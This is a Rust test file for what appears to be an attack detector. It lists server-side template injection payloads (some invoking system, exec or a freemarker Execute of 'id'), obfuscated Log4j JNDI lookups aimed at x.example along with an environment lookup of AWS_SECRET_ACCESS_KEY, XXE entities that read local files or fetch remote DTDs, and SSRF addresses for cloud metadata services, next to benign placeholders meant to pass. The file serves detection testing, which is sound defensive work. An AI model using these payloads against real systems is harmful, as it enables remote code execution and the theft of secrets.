//! Templates, look-ups, entities and addresses as attackers write them, and placeholders and links.

use crate::families_tests::{find, pass};
use crate::report::Family;

/// Expressions of template engines.
pub(crate) const TEMPLATES: &[&str] = &[
    "{{7*7}}",
    "{{ 7 * 7 }}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "@(7*7)",
    "<%= 7*7 %>",
    "{%print(7*7)%}",
    "{{=7*7}}",
    "[[7*7]]",
    "[[${7*7}]]",
    "{{config.items()}}",
    "{{request.application.__globals__}}",
    "{{cycler.__init__.__globals__}}",
    "{{lipsum.__globals__['os']}}",
    "{{self._TemplateReference__context}}",
    "{{''.__class__.__mro__[2]}}",
    "{{['id']|filter('system')}}",
    "{{['id']|map('passthru')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{dump(app)}}",
    "{{constructor.constructor('return 1')()}}",
    "{{range.constructor(\"return 1\")()}}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
    "#set($x=7*7)",
    "${T(java.lang.Runtime)}",
    "{php}echo 1;{/php}",
    "{{ 1337*1337 }}",
    "%7b%7b7*7%7d%7d",
];

/// Look-ups of logging libraries.
pub(crate) const LOOKUPS: &[&str] = &[
    "${jndi:ldap://x.example/a}",
    "${JNDI:RMI://x.example/a}",
    "${jndi:dns://x.example}",
    "${${lower:j}ndi:ldap://x.example/a}",
    "${${upper:j}${upper:n}di:ldap://x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
    "${${env:X:-j}ndi${env:X:-:}ldap://x}",
    "${j${k8s:k5:-ND}i:ldap://x}",
    "${jn${date:'d'}i:ldap://x}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:java.version}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
    "$%7Bjndi:ldap://x%7D",
    "${script:javascript:1}",
    "${url:UTF-8:https://x}",
    "JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=",
];

/// Entities and document types that read or fetch.
pub(crate) const ENTITIES: &[&str] = &[
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]><a>&b;</a>",
    "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://x.example/a.dtd\"> %b;]>",
    "<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a/>",
    "<!DOCTYPE a [<!ENTITY b \"c\"><!ENTITY d \"&b;&b;\">]>",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b PUBLIC \"x\" \"file:///x\">]>",
    "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"a\"/></a>",
    "%3C!ENTITY%20x%20SYSTEM%20%22file:///x%22%3E",
];

/// Addresses that a server should not fetch.
pub(crate) const ADDRESSES: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/",
    "http://2852039166/",
    "http://0xa9fea9fe/",
    "http://0251.0376.0251.0376/",
    "http://[fd00:ec2::254]/",
    "http://a@169.254.169.254/",
    "http://169.254.169.254.nip.example/",
    "http://127.1/",
    "http://0/",
    "gopher://127.0.0.1:6379/_x",
    "dict://127.0.0.1:11211/stat",
    "ldap://127.0.0.1/x",
    "sftp://x.example/",
    "tftp://x.example/a",
];

/// Placeholders of applications, documents and links.
pub(crate) const LOOK_ALIKES: &[&str] = &[
    "{{name}}",
    "{{ user.name }}",
    "{{ price | currency }}",
    "{{#each items}}{{this}}{{/each}}",
    "{{a*b}}",
    "${name}",
    "${user.name}",
    "#{id}",
    "%{count} items",
    "@{user}",
    "{0} of {1}",
    "{a: 1}",
    "[[wiki link]]",
    "[[1,2],[3,4]]",
    "@(home)",
    "{% comment %}",
    "<% %>",
    "5*5",
    "7 * 7 = 49",
    "(7*7)",
    "a {{ b }} c ${d}",
    "Dear {{first_name}}, your order ${order_id}",
    "jndi explained",
    "log4j jndi",
    "ldap server",
    "java naming",
    "env: production",
    "<!DOCTYPE html><html></html>",
    "<?xml version=\"1.0\"?><a>b</a>",
    "&amp; &lt; entity",
    "entity framework",
    "https://example.com/a",
    "http://localhost:3000/",
    "http://10.0.0.5/health",
    "http://192.168.1.1/",
    "ftp://example.com/a",
    "mailto:anna@example.com",
    "https://example.com/?u=https://example.org/",
    "wss://example.com/socket",
    "https://1.1.1.1/",
    "metadata",
    "2852039166",
    "0xa9fea9fe",
    "https://user@example.com/",
];

#[test]
fn finds_templates() {
    find(Family::TemplateInjection, &TEMPLATES[..8]);
    for text in TEMPLATES {
        crate::families_tests::is_attack(text);
    }
}

#[test]
fn finds_lookups() {
    find(Family::Lookup, LOOKUPS);
}

#[test]
fn finds_entities() {
    find(Family::XmlEntity, ENTITIES);
}

#[test]
fn finds_addresses() {
    find(Family::RequestForgery, ADDRESSES);
}

#[test]
fn lets_placeholders_documents_and_links_pass() {
    pass(LOOK_ALIKES);
}
